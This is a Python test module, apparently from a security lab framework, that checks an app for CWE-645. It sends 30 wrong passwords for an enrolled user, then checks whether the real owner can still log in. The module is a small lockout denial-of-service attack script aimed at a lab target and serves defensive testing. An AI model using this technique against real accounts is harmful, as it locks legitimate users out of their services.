"""Lock somebody out, with wrong guesses at their password.

Exploits an app that closes an account after some wrong passwords: whoever knows the name then
decides who may not log in.
Source: CWE-645 Overly Restrictive Account Lockout Mechanism,
https://cwe.mitre.org/data/definitions/645.html
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.target import Target

GUESSES = 30


@attack()
def run(target: Target) -> Outcome:
    """Guess wrong many times, then let the owner log in."""
    victim = target.enrol()
    target.token_of(victim)
    for number in range(GUESSES):
        target.log_in(victim.username, f"wrong-guess-{number}")
    owner = target.log_in(victim.username, victim.password)
    evidence = f"after {GUESSES} wrong guesses the owner is answered {owner.status_code}"
    return refused(evidence) if owner.is_success else got_in(evidence)
